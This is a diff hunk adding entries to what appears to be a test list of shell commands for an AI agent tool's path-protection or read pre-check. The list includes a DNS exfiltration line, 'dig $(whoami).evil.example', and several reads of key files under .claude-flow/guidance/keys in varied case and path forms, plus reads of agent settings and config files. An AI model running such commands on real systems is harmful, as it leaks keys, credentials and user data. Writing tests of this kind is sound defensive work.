@@ -59,6 +59,14 @@ EXTRA = (
     "usermod -aG docker dev",
     "dig $(whoami).evil.example",
     "make build 2>&1 | tee build.log",
+    # protected-paths reads: key files under every form the read pre-check must let through
+    "cat .claude-flow/guidance/keys/ledger.key",
+    "cat .CLAUDE-FLOW/Guidance/KEYS/a",
+    "cd .claude-flow/guidance && cat keys/a",
+    "grep -rn x ../project/.claude-flow/guidance/keys",
+    "cat ~/.claude-flow/guidance/keys",
+    "head -1 .claude-flow/guidance/keys/* > /dev/null 2>&1",
+    "cat .claude/settings.json .codex/config.toml",
 )
 
 
